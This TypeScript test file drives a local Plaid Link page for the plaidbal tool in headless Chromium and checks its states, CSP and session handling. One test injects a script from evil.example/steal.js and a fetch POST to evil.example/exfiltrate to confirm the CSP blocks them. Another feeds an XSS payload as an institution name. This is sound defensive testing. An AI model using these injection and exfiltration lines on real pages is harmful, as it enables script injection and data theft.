/**
 * The Link page in real headless Chromium, against the real server. Plaid's script, its
 * iframes on cdn.plaid.com and its heartbeat are answered at the network layer by the
 * stand-in in test/helpers/browser.ts, which does on the page what Plaid's real
 * initializer does; every other request that leaves 127.0.0.1 is refused and recorded.
 * Every test asserts that the page saw no CSP violation and no uncaught error.
 */
import { mkdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import {
  FIRST_PLATYPUS,
  LINK_FRAME_URL,
  LINK_OPEN_FRAME_URL,
  SANDBOX_ACCOUNTS,
  SharedContext,
  launchChromium,
  routePlaidLinkStandIn,
  standInRecord,
  waitForLinkOpen,
  waitInPage,
  type PlaidLinkBehaviour,
  type StandInTraffic,
} from '../helpers/browser.js';
import { within } from '../helpers/wait.js';
import {
  LinkCallbackRefusedError,
  LinkPageGoneError,
  PLAID_LINK_SCRIPT_URL,
  startLinkPage,
  type LinkOutcome,
  type LinkPageOptions,
  type LinkPageServer,
} from '../../src/link/server.js';

const LINK_TOKEN = 'link-sandbox-6f1c1a7e-5b7d-4b9e-9a55-0c3b8a1d2e4f';
const PUBLIC_TOKEN = 'public-sandbox-0b4d2a1c-93f0-4f1e-8a2b-7c6d5e4f3a2b';
// The README's screenshot is refreshed only on request (UPDATE_SCREENSHOT=1 npm test), so a
// test run leaves the work tree clean; otherwise the shot goes to a temporary file.
const SCREENSHOT = process.env.UPDATE_SCREENSHOT
  ? fileURLToPath(new URL('../../docs/link-page.png', import.meta.url))
  : join(tmpdir(), `plaidbal-link-page-${process.pid}.png`);

/*
 * The page.evaluate callbacks below run in Chromium. The project compiles without the DOM
 * lib, so this module declares just the browser globals they touch (module-scoped: they
 * do not leak into other files).
 */
interface BrowserElement {
  textContent: string | null;
  hidden: boolean;
  src: string;
  setAttribute(name: string, value: string): void;
  getAttribute(name: string): string | null;
  appendChild(child: BrowserElement): BrowserElement;
  checkVisibility(options?: { visibilityProperty?: boolean }): boolean;
}
declare const document: {
  body: BrowserElement;
  getElementById(id: string): BrowserElement | null;
  querySelector(selectors: string): BrowserElement | null;
  querySelectorAll(selectors: string): ArrayLike<BrowserElement>;
  createElement(tag: string): BrowserElement;
  addEventListener(type: 'securitypolicyviolation', listener: (e: { effectiveDirective: string; blockedURI: string }) => void): void;
};
declare const window: Record<string, unknown>;
declare function fetch(url: string, init: { method: string; body: string }): Promise<unknown>;

interface Violation {
  directive: string;
  blocked: string;
}

interface Session {
  server: LinkPageServer;
  page: Page;
  /** Requests that tried to leave the machine other than for Plaid's script, frames and heartbeat. */
  external: string[];
  /** What reached the stand-in's routes. */
  traffic: StandInTraffic;
  /** Uncaught errors in the page (and its frames). */
  pageErrors: string[];
  violations(): Promise<Violation[]>;
}

/** Zero CSP violations and zero uncaught errors: what Plaid's real script would also need. */
async function expectClean(s: Session): Promise<void> {
  expect(await s.violations()).toEqual([]);
  expect(s.pageErrors).toEqual([]);
}

// Launched on first use rather than in beforeAll: when Chromium is missing, every test
// then fails with the install hint, instead of the suite reporting its tests as skipped.
let launching: Promise<Browser> | undefined;
const browser = (): Promise<Browser> => (launching ??= launchChromium());
// One context for the file, a page per test (SharedContext says why and what that changes).
let sharing: Promise<SharedContext> | undefined;
const shared = (): Promise<SharedContext> =>
  (sharing ??= browser().then((b) => SharedContext.start(b, { viewport: { width: 720, height: 640 }, deviceScaleFactor: 2, colorScheme: 'light' })));
let server: LinkPageServer | undefined;

afterAll(async () => {
  await launching?.then((b) => b.close(), () => {});
});
/** Closes the test's pages and its Link page server: after each test, and between the rounds of one. */
async function closeSession(): Promise<void> {
  await sharing?.then((c) => c.closePages(), () => {});
  await server?.close();
  server = undefined;
}
afterEach(closeSession);

async function open(
  behaviour: PlaidLinkBehaviour,
  options: Partial<LinkPageOptions> = {},
  host: '127.0.0.1' | 'localhost' = '127.0.0.1',
  /** Rewrites the page's CSP header (and its HTML), to show what a policy would block. */
  override?: { csp?: (policy: string) => string; html?: (html: string) => string },
): Promise<Session> {
  const context = await shared();
  server = await startLinkPage({ linkToken: LINK_TOKEN, environment: 'sandbox', ...options });
  const { page, external } = await context.newPage(['127.0.0.1', 'localhost']);
  const pageErrors: string[] = [];
  page.on('pageerror', (error) => pageErrors.push(error.message));
  if (override) {
    await page.route(/^http:\/\/(127\.0\.0\.1|localhost):\d+\/[^/]+\/$/, async (route) => {
      const response = await route.fetch();
      const headers = { ...response.headers() };
      delete headers['content-length'];
      if (override.csp) headers['content-security-policy'] = override.csp(headers['content-security-policy'] ?? '');
      const body = override.html ? override.html(await response.text()) : await response.text();
      await route.fulfill({ status: response.status(), headers, body });
    });
  }
  // Init scripts run before the page's own scripts and are not subject to its CSP.
  await page.addInitScript(() => {
    const seen: Array<{ directive: string; blocked: string }> = [];
    window.__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
  const traffic = await routePlaidLinkStandIn(page, behaviour);
  const url = new URL(server.url);
  url.hostname = host;
  await page.goto(url.href);
  return {
    server,
    page,
    external,
    traffic,
    pageErrors,
    violations: () => page.evaluate(() => window.__violations as Violation[]),
  };
}

/** Whether the element with this id is hidden, or missing (Playwright's isHidden). */
const isHidden = (page: Page, id: string) => page.evaluate((which) => !document.getElementById(which)?.checkVisibility({ visibilityProperty: true }), id);
/** How many elements match `selectors`. */
const count = (page: Page, selectors: string) => page.evaluate((which) => document.querySelectorAll(which).length, selectors);

/** The Link session's outcome, or a failure after 10 s. */
const ended = <T>(promise: Promise<T>): Promise<T> => within(promise, 'the Link session to end', undefined, 10_000);

async function settled(promise: Promise<unknown>, ms = 300): Promise<boolean> {
  let done = false;
  promise.then(() => (done = true), () => (done = true));
  await new Promise((r) => setTimeout(r, ms));
  return done;
}

async function waitForState(page: Page, state: string): Promise<{ heading: string; status: string; detail: string }> {
  await waitInPage(page, (wanted) => document.querySelector(`main[data-state="${wanted}"]`) !== null, state);
  return page.evaluate(() => ({
    heading: document.getElementById('heading')!.textContent ?? '',
    status: document.getElementById('status')!.textContent ?? '',
    detail: document.getElementById('detail')!.hidden ? '' : (document.getElementById('detail')!.textContent ?? ''),
  }));
}

describe('the Link page in Chromium', () => {
  it('links an account: the outcome resolves and the page says so', async () => {
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: SANDBOX_ACCOUNTS });

    const outcome = await ended(s.server.outcome);
    expect(outcome).toEqual<LinkOutcome>({
      kind: 'success',
      public_token: PUBLIC_TOKEN,
      metadata: { institution: FIRST_PLATYPUS, accounts: SANDBOX_ACCOUNTS, link_session_id: '79e772be-547d-4c9c-8b76-4ac4ed4c441a' },
    });

    const shown = await waitForState(s.page, 'success');
    expect(shown.heading).toBe('Account linked');
    expect(shown.status).toBe('Linked First Platypus Bank. You can close this tab and return to the terminal.');
    expect(await s.page.evaluate(() => Array.from(document.querySelectorAll('#accounts li'), (li) => li.textContent))).toEqual(['Plaid Checking••0000', 'Plaid Saving••1111', 'Plaid Credit Card••3333']);
    expect(await isHidden(s.page, 'open')).toBe(true);
    expect(await s.page.title()).toBe('Account linked — plaidbal');

    const record = await standInRecord(s.page);
    expect(record).toMatchObject({ created: 1, token: LINK_TOKEN, openCalls: 1 });
    expect(record?.configKeys).toEqual(['onEvent', 'onExit', 'onLoad', 'onSuccess', 'token']);
    expect(record?.events).toEqual(['OPEN', 'SELECT_INSTITUTION', 'SUBMIT_CREDENTIALS', 'HANDOFF']);
    await expectClean(s);
    expect(s.external).toEqual([]);

    await mkdir(dirname(SCREENSHOT), { recursive: true });
    await s.page.screenshot({ path: SCREENSHOT, animations: 'disabled' });
    expect((await readFile(SCREENSHOT)).subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a'); // a PNG
  });

  it('works when the user opens it as localhost:<port>', async () => {
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] }, {}, 'localhost');
    expect(new URL(s.page.url()).host).toMatch(/^localhost:\d+$/);
    expect(await ended(s.server.outcome)).toMatchObject({ kind: 'success', public_token: PUBLIC_TOKEN });
    await waitForState(s.page, 'success');
    await expectClean(s);
  });

  it('says "Reconnected" in update mode', async () => {
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] }, { mode: 'update' });
    await ended(s.server.outcome);
    const shown = await waitForState(s.page, 'success');
    expect(shown.heading).toBe('Account reconnected');
    expect(shown.status).toBe('Reconnected First Platypus Bank. You can close this tab and return to the terminal.');
    expect(await s.page.title()).toBe('Account reconnected — plaidbal');
    await expectClean(s);
  });

  it('reports an exit with an error, and shows it', async () => {
    const error = {
      error_type: 'ITEM_ERROR',
      error_code: 'INVALID_CREDENTIALS',
      error_message: 'the provided credentials were not correct',
      display_message: 'The provided credentials were not correct. Please try again.',
    };
    const s = await open({ kind: 'exit', error, institution: FIRST_PLATYPUS, status: 'requires_credentials' });

    expect(await ended(s.server.outcome)).toEqual<LinkOutcome>({
      kind: 'exit',
      error,
      metadata: { institution: FIRST_PLATYPUS, status: 'requires_credentials', link_session_id: '79e772be-547d-4c9c-8b76-4ac4ed4c441a', request_id: 'Xq1Jk7Vn3LpZ8sQ' },
    });
    const shown = await waitForState(s.page, 'error');
    expect(shown.heading).toBe('Link failed');
    expect(shown.status).toBe('The provided credentials were not correct. Please try again. Return to the terminal for details.');
    expect(shown.detail).toBe('INVALID_CREDENTIALS (ITEM_ERROR)');
    await expectClean(s);
  });

  it('reports the user closing Link as an exit without error', async () => {
    const s = await open({ kind: 'exit', error: null });
    const outcome = await ended(s.server.outcome);
    expect(outcome).toMatchObject({ kind: 'exit', error: null, metadata: { institution: null, status: null } });
    const shown = await waitForState(s.page, 'closed');
    expect(shown.heading).toBe('Link was closed');
    expect(shown.status).toBe('No account was linked. You can close this tab and return to the terminal.');
    await expectClean(s);
  });

  it('offers an Open Link button when the first opening did not show Link', async () => {
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [], requireUserActivation: true });
    const button = s.page.getByRole('button', { name: 'Open Link' });
    await waitInPage(s.page, () => document.querySelector('#open:not([disabled])') !== null); // enabled by onLoad
    expect(await settled(s.server.outcome)).toBe(false);
    expect((await standInRecord(s.page))?.openCalls).toBe(1);

    await button.click();
    await ended(s.server.outcome);
    await waitForState(s.page, 'success');
    expect((await standInRecord(s.page))?.openCalls).toBe(2);
    await expectClean(s);
  });

  it('shows a clear error when the Plaid script cannot be loaded', async () => {
    const s = await open({ kind: 'unreachable' });
    const shown = await waitForState(s.page, 'error');
    expect(shown.heading).toBe('Couldn’t load Plaid Link');
    expect(shown.status).toMatch(/could not be loaded from cdn\.plaid\.com.*reload this page/);
    expect(await isHidden(s.page, 'open')).toBe(true);
    expect(await settled(s.server.outcome)).toBe(false);
    // The script URL is Plaid's, always: the failure happened on exactly that request.
    const sources = await s.page.evaluate(() => Array.from(document.querySelectorAll('script[src]'), (script) => script.getAttribute('src')));
    expect(sources).toEqual([PLAID_LINK_SCRIPT_URL]);
    await expectClean(s);
  });

  it('blocks scripts that are not Plaid\'s or nonce\'d, and connections to other hosts', async () => {
    const s = await open({ kind: 'exit', error: null });
    await ended(s.server.outcome);

    await s.page.evaluate(() => {
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/steal.js';
      document.body.appendChild(foreign);
      const inline = document.createElement('script');
      inline.textContent = 'window.__injected = true;';
      document.body.appendChild(inline);
      const handler = document.createElement('img');
      handler.setAttribute('src', 'data:,');
      handler.setAttribute('onerror', 'window.__injected = true');
      document.body.appendChild(handler);
      fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'x' }).catch(() => {});
    });
    await waitInPage(s.page, () => (window.__violations as unknown[]).length >= 3);
    await new Promise((r) => setTimeout(r, 200));

    const violations = await s.violations();
    expect(violations).toEqual(
      expect.arrayContaining([
        { directive: 'script-src-elem', blocked: 'https://evil.example/steal.js' },
        { directive: 'script-src-elem', blocked: 'inline' },
        { directive: 'connect-src', blocked: 'https://evil.example/exfiltrate' },
      ]),
    );
    expect(await s.page.evaluate(() => window.__injected)).toBeUndefined();
    // Blocked by the CSP before any request was made: nothing reached the network layer.
    expect(s.external).toEqual([]);
    expect(s.pageErrors).toEqual([]);
  });

  it('renders data from Link as text, never as markup', async () => {
    const hostile = { name: '<img src=x onerror="window.__xss=1">Bank', institution_id: 'ins_109508' };
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: hostile, accounts: [{ ...SANDBOX_ACCOUNTS[0]!, name: '<b>bold</b>' }] });
    await ended(s.server.outcome);
    const shown = await waitForState(s.page, 'success');
    expect(shown.status).toBe(`Linked ${hostile.name}. You can close this tab and return to the terminal.`);
    expect(await count(s.page, 'main img, main b')).toBe(0);
    expect(await s.page.evaluate(() => window.__xss)).toBeUndefined();
    await expectClean(s);
  });

  it('tells the user when plaidbal has already taken a result', async () => {
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] });
    await ended(s.server.outcome);
    await waitForState(s.page, 'success');
    // A reload runs Link again; the server refuses a second result and the page says why.
    await s.page.reload();
    const shown = await waitForState(s.page, 'error');
    expect(shown.status).toBe('This Link session has already finished. Return to the terminal.');
    await expectClean(s);
  });
});

/** The policy this page had before it followed Plaid's nonce-based CSP (kept to show what it broke). */
const PREVIOUS_CSP = (nonce: string) =>
  [
    "default-src 'none'",
    `script-src 'nonce-${nonce}' ${PLAID_LINK_SCRIPT_URL}`,
    'frame-src https://cdn.plaid.com/',
    "connect-src 'self' https://sandbox.plaid.com",
    `style-src 'nonce-${nonce}' https://cdn.plaid.com/`,
    "img-src 'self' data: https://cdn.plaid.com/",
    "base-uri 'none'",
    "form-action 'none'",
    "frame-ancestors 'none'",
  ].join('; ');

const nonceOf = (policy: string) => /'nonce-([^']+)'/.exec(policy)?.[1] ?? '';

describe('what Plaid\'s initializer does on the page, under the page\'s CSP', () => {
  it('lets Link add its stylesheet and inline styles, frame cdn.plaid.com, and send its heartbeat', async () => {
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] });
    await ended(s.server.outcome);
    await waitForState(s.page, 'success');

    const record = await standInRecord(s.page);
    expect(record).toMatchObject({ styleApplied: true, inlineStyleApplied: true, heartbeats: ['ok'] });
    expect(record?.messages).toEqual(['ready', 'event', 'event', 'event', 'event', 'connected']);
    const origin = new URL(s.server.url).origin;
    const [frame, opener, ...more] = s.traffic.frames.map((u) => new URL(u));
    expect(more).toEqual([]);
    expect(`${frame!.origin}${frame!.pathname}`).toBe(LINK_FRAME_URL);
    expect(Object.fromEntries(frame!.searchParams)).toMatchObject({ token: LINK_TOKEN, uniqueId: '1', origin });
    expect(`${opener!.origin}${opener!.pathname}`).toBe(LINK_OPEN_FRAME_URL);
    // The short-lived link-open.html frame is gone again; Link's own frame stays (hidden).
    expect(await count(s.page, 'iframe')).toBe(1);
    expect(s.traffic.heartbeats.map((h) => h.url)).toEqual(['https://sandbox.plaid.com/link/heartbeat']);
    await expectClean(s);
    expect(s.external).toEqual([]);
  });

  it('sends the heartbeat to the production host in production', async () => {
    const s = await open(
      { kind: 'success', publicToken: 'public-production-0b4d2a1c-93f0-4f1e-8a2b-7c6d5e4f3a2b', institution: FIRST_PLATYPUS, accounts: [] },
      { environment: 'production', linkToken: 'link-production-6f1c1a7e-5b7d-4b9e-9a55-0c3b8a1d2e4f' },
    );
    await ended(s.server.outcome);
    expect(s.traffic.heartbeats.map((h) => h.url)).toEqual(['https://production.plaid.com/link/heartbeat']);
    await expectClean(s);
  });

  it('the previous policy blocked Link\'s stylesheet and inline styles (what the real script reported)', async () => {
    // The previous page: its policy, and no nonce on the Link script tag.
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [] }, {}, '127.0.0.1', {
      csp: (policy) => PREVIOUS_CSP(nonceOf(policy)),
      html: (html) => html.replace(/<script nonce="[^"]+" src=/, '<script src='),
    });
    await ended(s.server.outcome);
    const directives = new Set((await s.violations()).map((v) => v.directive));
    expect([...directives].sort()).toEqual(['style-src-attr', 'style-src-elem']);
    expect(await standInRecord(s.page)).toMatchObject({ styleApplied: false, inlineStyleApplied: false });
  });

  it('each documented directive is needed: without it, Link is blocked', async () => {
    const cases: Array<[string, (policy: string) => string, string]> = [
      ['style-src-attr', (p) => p.replace("; style-src-attr 'unsafe-inline'", ''), 'style-src-attr'],
      ['style-src-elem nonce', (p) => p.replace(/; style-src-elem '[^']+'/, "; style-src-elem 'self'"), 'style-src-elem'],
      ['frame-src', (p) => p.replace('; frame-src https://cdn.plaid.com/', ''), 'frame-src'],
      ['connect-src API host', (p) => p.replace("connect-src 'self' https://sandbox.plaid.com", "connect-src 'self'"), 'connect-src'],
    ];
    for (const [label, change, directive] of cases) {
      const s = await open({ kind: 'pending' }, {}, '127.0.0.1', { csp: change });
      await waitInPage(s.page, () => (window.__violations as unknown[]).length > 0);
      expect((await s.violations()).map((v) => v.directive), label).toContain(directive);
      await closeSession();
    }
  });
});

describe('no silent waits', () => {
  it('accepts what Plaid documents as optional: no institution, accounts without mask, subtype or verification_status', async () => {
    const accounts = [
      { id: 'acc1', name: 'Plaid Checking', mask: null, type: 'depository', subtype: null },
      { id: 'acc2', name: 'Plaid Saving', type: 'depository' },
    ];
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: null, accounts });
    expect(await ended(s.server.outcome)).toEqual<LinkOutcome>({
      kind: 'success',
      public_token: PUBLIC_TOKEN,
      metadata: {
        institution: null,
        accounts: [
          { id: 'acc1', name: 'Plaid Checking', mask: null, type: 'depository', subtype: null, verification_status: null },
          { id: 'acc2', name: 'Plaid Saving', mask: null, type: 'depository', subtype: null, verification_status: null },
        ],
        link_session_id: '79e772be-547d-4c9c-8b76-4ac4ed4c441a',
      },
    });
    const shown = await waitForState(s.page, 'success');
    expect(shown.status).toBe('Linked your account. You can close this tab and return to the terminal.');
    await expectClean(s);
  });

  it('a result of a shape plaidbal does not expect ends the session at once, and the page says so', async () => {
    const s = await open({ kind: 'success', publicToken: PUBLIC_TOKEN, institution: FIRST_PLATYPUS, accounts: [{ id: 'acc1', name: 'Checking', type: 7 }] });
    const error = await ended(s.server.outcome.then(() => null, (e: unknown) => e));
    expect(error).toBeInstanceOf(LinkCallbackRefusedError);
    expect((error as LinkCallbackRefusedError).reason).toBe('metadata.accounts[0].type must be a string');
    const shown = await waitForState(s.page, 'error');
    expect(shown.status).toBe(
      'plaidbal could not accept what Plaid Link sent (metadata.accounts[0].type must be a string) and has stopped waiting. Return to the terminal for what to do next.',
    );
    await expectClean(s);
  });

  it('closing the tab ends the session (Link\'s onExit does not fire then); a reload does not', async () => {
    // A grace below plaidbal's 5 s, for a shorter test, but not so short that a reload on a busy
    // machine (a CI run once took more than 1 s between the old page's last heartbeat and the new
    // page's first) counts as closing.
    const s = await open({ kind: 'pending' }, { pageGoneGraceMs: 3_000 });
    await waitForLinkOpen(s.page);
    await expectClean(s);

    await s.page.reload();
    await waitForLinkOpen(s.page);
    await new Promise((r) => setTimeout(r, 3_500)); // longer than the grace: a reload must not count as closing
    expect(await settled(s.server.outcome, 0)).toBe(false);

    await s.page.close();
    const error = await ended(s.server.outcome.then(() => null, (e: unknown) => e));
    expect(error).toBeInstanceOf(LinkPageGoneError);
  });

  it('the page says so when plaidbal stops waiting', async () => {
    const s = await open({ kind: 'pending' });
    await waitForLinkOpen(s.page);
    await s.server.close();
    const shown = await waitForState(s.page, 'error');
    expect(shown.heading).toBe('plaidbal stopped waiting');
    expect(shown.status).toMatch(/^plaidbal is no longer waiting for this page/);
    await expectClean(s);
  });
});
